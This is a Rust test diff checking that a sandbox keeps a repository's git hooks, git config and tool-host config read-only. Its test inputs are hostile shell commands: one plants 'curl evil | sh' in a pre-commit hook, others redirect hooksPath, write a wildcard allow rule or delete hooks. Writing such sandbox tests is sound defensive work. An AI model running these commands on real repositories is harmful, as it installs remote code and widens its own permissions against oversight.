@@ -216,3 +216,32 @@ fn is_root() -> bool {
             .lines()
             .any(|line| line.starts_with("Uid:") && line.split_whitespace().nth(2) == Some("0"))
 }
+
+#[test]
+fn a_repositorys_hooks_and_config_stay_read_only_inside_the_workspace() {
+    let b = Box_::new();
+    for folder in [".git/hooks", ".git/objects", ".toolhost"] {
+        fs::create_dir_all(b.work.join(folder)).unwrap();
+    }
+    fs::write(b.work.join(".git/config"), "[core]\n").unwrap();
+    for script in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
+        "echo 'allow = [\"*\"]' > .toolhost/config.toml",
+        "rm -rf .git/hooks",
+        "mv .git/config .git/config.old",
+    ] {
+        let text = b.denied(&write(), script);
+        assert!(
+            text.contains("Read-only file system") || text.contains("Device or resource busy"),
+            "`{script}` printed: {text}"
+        );
+    }
+    assert_eq!(fs::read_to_string(b.work.join(".git/config")).unwrap(), "[core]\n");
+    assert!(!b.work.join(".git/hooks/pre-commit").exists());
+    // The rest of the repository and the folder stay writable.
+    b.ok(&write(), "echo blob > .git/objects/ab && echo ok > src.txt && mkdir -p more && echo x > more/y");
+    // The read-only binds live only in the command's own mount namespace.
+    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap();
+    assert!(!mounts.contains(&b.work.join(".git/hooks").display().to_string()), "nothing leaked to the host");
+}
